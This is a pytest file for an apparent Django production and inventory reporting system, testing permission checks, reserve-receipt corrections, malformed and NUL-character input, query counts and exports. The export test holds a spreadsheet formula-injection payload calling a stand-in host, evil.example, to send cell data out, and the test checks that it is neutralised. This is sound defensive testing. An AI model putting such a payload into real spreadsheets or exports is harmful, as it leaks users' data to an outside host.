"""Holes a hostile tester found in the production module, each pinned by a test: a reporter
booking stock without a report, text fields sent as objects, keys typed as "²", reversed or
moved held-reserve receipts, and query counts of the desk and a problem's page."""

import datetime as dt
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse

from inventory.models import StockBalance, StockEvent, WarehouseKind
from inventory.services import stock_reverse
from production.models import LineStatus, Problem, Producer, ProductionLine, ProductionReport
from production.services import (
    ProductionReportsInvalid,
    problem_report,
    problem_take,
    production_reports_submit,
)
from supplycoord.exports import TITLE_ROWS
from tests.factories import ItemFactory, WarehouseFactory

TZ = ZoneInfo("Asia/Shanghai")
TODAY = dt.date(2020, 3, 10)
CODE = "91350100M000100Y43"  # reporting_producer's credit code
REPORTS_URL = "/api/v1/production-reports/"
PROBLEMS_URL = "/api/v1/production-problems/"


@pytest.fixture(autouse=True)
def frozen_time():
    with time_machine.travel(dt.datetime(2020, 3, 10, 10, 0, tzinfo=TZ), tick=False):
        yield


def row(**overrides):
    values = {
        "producer": CODE,
        "item": "FH001",
        "date": TODAY.isoformat(),
        "output": 80_000,
        "to_reserve": 0,
        "factory_stock": 30_000,
    }
    values.update(overrides)
    return values


def held_balance(warehouse, item):
    balance = StockBalance.objects.filter(warehouse=warehouse, item=item).first()
    return balance.quantity if balance else 0


# --- A reporter books stock only through a production report ------------------------------


def test_it_refuses_a_reporter_posting_a_receipt_into_the_held_reserve_through_the_ledger_api(
    client_for, reporter, reporting_producer, n95
):
    """The permission that books a report's delivery must not let a reporter post a million
    "donated" masks into the province's reserve through /api/v1/stock-events/."""
    warehouse = reporting_producer.held_reserve_warehouse

    response = client_for(reporter).post(
        "/api/v1/stock-events/",
        {
            "kind": "receipt",
            "warehouse": warehouse.code,
            "source": "own_production",
            "lines": [{"item": "FH001", "quantity": 1_000_000}],
        },
        format="json",
    )

    assert response.status_code == 403
    assert held_balance(warehouse, n95) == 0
    assert not StockEvent.objects.exists()


def test_a_reporters_report_still_books_and_corrects_its_delivery(
    reporter, reporting_producer, n95
):
    warehouse = reporting_producer.held_reserve_warehouse
    production_reports_submit(user=reporter, rows=[row(to_reserve=20_000)])
    production_reports_submit(user=reporter, rows=[row(to_reserve=5_000)])

    assert held_balance(warehouse, n95) == 5_000


# --- The held-reserve receipt under errors ------------------------------------------------


def test_a_delivery_the_office_reversed_on_the_ledger_can_still_be_corrected(
    office, reporter, reporting_producer, n95
):
    """The office reversed the report's receipt by hand; the next correction must not be
    refused forever because the receipt "was already reversed"."""
    warehouse = reporting_producer.held_reserve_warehouse
    production_reports_submit(user=reporter, rows=[row(to_reserve=20_000)])
    stock_reverse(
        user=office, event=ProductionReport.objects.get().reserve_receipt, reason="wrong day"
    )
    assert held_balance(warehouse, n95) == 0

    production_reports_submit(user=reporter, rows=[row(to_reserve=8_000)])

    report = ProductionReport.objects.get()
    assert report.to_reserve == 8_000
    assert held_balance(warehouse, n95) == 8_000
    assert not StockEvent.objects.filter(reverses=report.reserve_receipt).exists()


def test_a_delivery_booked_in_a_former_held_reserve_is_a_row_error_and_nothing_changes(
    office, reporter, reporting_producer, n95
):
    """The office moved the producer to a new held-reserve warehouse: the reporter may not
    reverse the receipt in the old one, and is told so on the field, not with a 403."""
    old = reporting_producer.held_reserve_warehouse
    production_reports_submit(user=reporter, rows=[row(to_reserve=20_000)])
    reporting_producer.held_reserve_warehouse = WarehouseFactory(
        code="DC10", kind=WarehouseKind.PRODUCER_HELD, prefecture=reporting_producer.prefecture
    )
    reporting_producer.save()

    with pytest.raises(ProductionReportsInvalid) as caught:
        production_reports_submit(user=reporter, rows=[row(to_reserve=1_000)])

    assert [(e.row, e.field) for e in caught.value.errors] == [(0, "to_reserve")]
    assert ProductionReport.objects.get().to_reserve == 20_000
    assert held_balance(old, n95) == 20_000
    assert StockEvent.objects.count() == 1


def test_a_refused_delivery_rolls_back_the_receipts_of_earlier_rows(
    office, reporter, reporting_producer, n95
):
    """Row 0 books a new delivery, row 1's correction is refused by the ledger (the reserve
    was dispatched): row 0's receipt must not stay in the ledger."""
    from inventory.services import stock_issue

    suits = ItemFactory(code="FH010")
    ProductionLine.objects.create(
        producer=reporting_producer, item=suits, daily_capacity=500, status=LineStatus.COMMISSIONED
    )
    warehouse = reporting_producer.held_reserve_warehouse
    production_reports_submit(user=reporter, rows=[row(item="FH010", to_reserve=100)])
    stock_issue(user=office, warehouse=warehouse, lines=[(suits, 90)], issue_kind="dispatch")

    with pytest.raises(ProductionReportsInvalid):
        production_reports_submit(
            user=reporter,
            rows=[row(to_reserve=20_000), row(item="FH010", to_reserve=1)],
        )

    assert held_balance(warehouse, n95) == 0
    assert held_balance(warehouse, suits) == 10
    assert not ProductionReport.objects.filter(item=n95).exists()
    assert StockEvent.objects.count() == 2  # the first delivery and the dispatch


# --- Malformed input answers 400, never 500 or a silent "{...}" ----------------------------


def test_it_refuses_a_row_reason_that_is_not_text(client_for, reporter, reporting_producer):
    response = client_for(reporter).post(
        REPORTS_URL, {"rows": [row(reason={"why": "typo"})]}, format="json"
    )

    assert response.status_code == 400
    assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [(0, "reason")]
    assert not ProductionReport.objects.exists()


@pytest.mark.parametrize("description", [{"text": "no fabric"}, ["no fabric"], 42])
def test_it_refuses_a_problem_description_that_is_not_text(
    client_for, reporter, reporting_producer, description
):
    response = client_for(reporter).post(
        PROBLEMS_URL,
        {"producer": CODE, "category": "raw_materials", "description": description},
        format="json",
    )

    assert response.status_code == 400
    assert [e["field"] for e in response.json()["errors"]] == ["description"]
    assert not Problem.objects.exists()


@pytest.mark.parametrize("value", ["²", "١", "99999999999999999999999"])
def test_a_producer_key_that_only_looks_numeric_is_not_a_server_error(
    client, reporter, reporting_producer, value
):
    """str.isdigit() says yes to "²" and "١"; int() then raised a 500."""
    client.raise_request_exception = False
    client.force_login(reporter)

    form = client.get(reverse("production:problem_new"), {"producer": value})
    entry = client.get(reverse("production:report_entry"), {"producer": value})
    saved = client.post(reverse("production:report_entry"), {"producer": value, "date": "x"})

    assert form.status_code == 200
    assert form.context["form"].initial.get("producer") is None
    assert entry.status_code == 403
    assert saved.status_code == 403


# --- Query counts -------------------------------------------------------------------------


def _add_producer(n, *, lanzhou, reporter, office, item):
    # objects.create skips the check character: these codes are only unique keys here.
    producer = Producer.objects.create(
        name=f"厂{n}", credit_code=f"CODE{n:014d}", prefecture=lanzhou
    )
    producer.reporters.add(reporter)
    ProductionLine.objects.create(
        producer=producer, item=item, daily_capacity=1_000, status=LineStatus.COMMISSIONED
    )
    ProductionLine.objects.create(
        producer=producer, item=item, daily_capacity=500, status=LineStatus.BUILDING
    )
    problem = Problem.objects.create(
        producer=producer,
        category="labour",
        description="缺工人",
        reported_by=office,
        reported_at=dt.datetime(2020, 3, 1, 9, 0, tzinfo=TZ),
        owner=office,
        status="in_progress",
    )
    return producer, problem


def test_the_commissioners_desk_runs_a_constant_number_of_queries(
    client, reporter, office, lanzhou, n95, django_assert_max_num_queries
):
    client.force_login(reporter)
    _add_producer(1, lanzhou=lanzhou, reporter=reporter, office=office, item=n95)
    url = reverse("production:commissioner")
    with django_assert_max_num_queries(12) as one:
        assert client.get(url).status_code == 200
    suits = ItemFactory(code="FH010")
    for n in range(2, 10):
        producer, _ = _add_producer(
            n, lanzhou=lanzhou, reporter=reporter, office=office, item=suits if n % 2 else n95
        )
    with django_assert_max_num_queries(len(one.captured_queries)):
        response = client.get(url)
    assert len(response.context["desk"].producers) == 9
    assert len(response.context["desk"].open_problems) == 9


def test_a_problems_page_runs_a_constant_number_of_queries_whatever_its_history(
    client, office, reporter, reporting_producer, django_assert_max_num_queries
):
    client.force_login(office)
    problem = problem_report(
        user=reporter, producer=reporting_producer, category="labour", description="缺工人"
    )
    url = reverse("production:problem_detail", args=[problem.pk])
    with django_assert_max_num_queries(12) as one:
        assert client.get(url).status_code == 200
    problem_take(user=office, problem=problem, owner=reporter)
    for n in range(5):
        problem.refresh_from_db()
        problem.description = f"缺工人 {n}"
        problem._history_user = office if n % 2 else reporter
        problem.save()
    with django_assert_max_num_queries(len(one.captured_queries)):
        response = client.get(url)
    assert len(response.context["history"]) == 7


# --- Exports ------------------------------------------------------------------------------


def test_a_reporters_correction_reason_reaches_the_office_export_as_text_not_a_formula(
    client, office, reporter, reporting_producer
):
    import csv
    import io

    import openpyxl

    production_reports_submit(
        user=reporter, rows=[row(date="2020-03-09")], now=dt.datetime(2020, 3, 9, 18, tzinfo=TZ)
    )
    attack = '=HYPERLINK("http://evil.example/?"&A2,"details")'
    production_reports_submit(user=reporter, rows=[row(date="2020-03-09", output=1)], reason=attack)
    client.force_login(office)

    as_csv = client.get(reverse("production:reports_export", args=["csv"]))
    as_xlsx = client.get(reverse("production:reports_export", args=["xlsx"]))

    text = b"".join(as_csv.streaming_content).decode("utf-8-sig")
    reasons = [r[-1] for r in list(csv.reader(io.StringIO(text)))[1:]]
    assert reasons == ["'" + attack]
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(as_xlsx.streaming_content))).active
    cell = sheet.cell(row=TITLE_ROWS + 2, column=sheet.max_column)
    assert cell.value == "'" + attack
    assert cell.data_type == "s"


# --- An item withdrawn from the catalogue -------------------------------------------------


def test_an_item_withdrawn_from_the_catalogue_is_no_longer_reported(
    client, reporter, reporting_producer, n95
):
    suits = ItemFactory(code="FH010", active=False)
    ProductionLine.objects.create(
        producer=reporting_producer, item=suits, daily_capacity=500, status=LineStatus.COMMISSIONED
    )

    with pytest.raises(ProductionReportsInvalid) as caught:
        production_reports_submit(user=reporter, rows=[row(item="FH010")])
    assert [(e.row, e.field) for e in caught.value.errors] == [(0, "item")]

    # The form, the desk and the template offer only the items still in the catalogue, so
    # the day's report of the others can still be saved from the form.
    client.force_login(reporter)
    url = reverse("production:report_entry")
    form = client.get(url, {"producer": reporting_producer.pk})
    assert [r.item.code for r in form.context["rows"]] == ["FH001"]
    desk = client.get(reverse("production:commissioner"))
    assert [item.code for _p, item, _r in desk.context["desk"].today_reports] == ["FH001"]
    saved = client.post(
        url,
        {
            "producer": reporting_producer.pk,
            "date": TODAY.isoformat(),
            "FH001-output": "100",
            "FH001-factory_stock": "10",
        },
    )
    assert saved.status_code == 302
    assert list(ProductionReport.objects.values_list("item__code", flat=True)) == ["FH001"]


# --- NUL characters: PostgreSQL refuses them in any query, so they must never reach one ----


def test_a_report_with_nul_characters_is_refused_field_by_field(
    client_for, reporter, reporting_producer
):
    rows = [
        row(producer=CODE[:6] + "\x00"),
        row(item="FH\x00"),
        row(reason="typo\x00"),
    ]

    response = client_for(reporter).post(REPORTS_URL, {"rows": rows}, format="json")
    shared = client_for(reporter).post(
        REPORTS_URL, {"rows": [row()], "reason": "typo\x00"}, format="json"
    )

    assert response.status_code == 400
    assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [
        (0, "producer"),
        (1, "item"),
        (2, "reason"),
    ]
    assert shared.status_code == 400
    assert [(e["row"], e["field"]) for e in shared.json()["errors"]] == [(None, "reason")]
    assert not ProductionReport.objects.exists()


def test_a_problem_with_nul_characters_is_refused(client_for, reporter, reporting_producer):
    api = client_for(reporter)

    bad_producer = api.post(
        PROBLEMS_URL,
        {"producer": "\x00" + CODE, "category": "labour", "description": "缺工人"},
        format="json",
    )
    bad_text = api.post(
        PROBLEMS_URL,
        {"producer": CODE, "category": "labour", "description": "缺工人\x00"},
        format="json",
    )
    problem = problem_report(
        user=reporter, producer=reporting_producer, category="labour", description="缺工人"
    )
    bad_resolution = api.post(
        f"{PROBLEMS_URL}{problem.pk}/resolve/", {"resolution": "招工\x00"}, format="json"
    )

    assert [e["field"] for e in bad_producer.json()["errors"]] == ["producer"]
    assert [e["field"] for e in bad_text.json()["errors"]] == ["description"]
    assert [e["field"] for e in bad_resolution.json()["errors"]] == ["resolution"]
    assert Problem.objects.get().status == "open"


# --- Dashboard drill-down -----------------------------------------------------------------


def test_the_dashboard_drills_down_from_producers_by_status_to_the_register(
    client, office, reporting_producer, other_reporting_producer
):
    Producer.objects.filter(pk=other_reporting_producer.pk).update(status="stopped")
    client.force_login(office)

    html = client.get(reverse("reports:production_dashboard")).content.decode()
    link = f"{reverse('production:producer_list')}?status=stopped"
    register = client.get(link)

    assert f'href="{link}"' in html
    assert "?status=converting" not in html  # nobody converting: no link to an empty list
    assert [p.pk for p in register.context["producers"]] == [other_reporting_producer.pk]


def test_the_report_form_runs_a_constant_number_of_queries_whatever_the_items(
    client, reporter, reporting_producer, django_assert_max_num_queries
):
    client.force_login(reporter)
    url = reverse("production:report_entry")
    production_reports_submit(user=reporter, rows=[row()])
    with django_assert_max_num_queries(12) as one:
        assert client.get(url, {"producer": reporting_producer.pk}).status_code == 200
    for n in range(5):
        item = ItemFactory(code=f"FH1{n:02d}")
        ProductionLine.objects.create(
            producer=reporting_producer, item=item, daily_capacity=10, status=LineStatus.BUILDING
        )
        production_reports_submit(user=reporter, rows=[row(item=item.code)])
    with django_assert_max_num_queries(len(one.captured_queries)):
        response = client.get(url, {"producer": reporting_producer.pk})
    assert len(response.context["rows"]) == 6
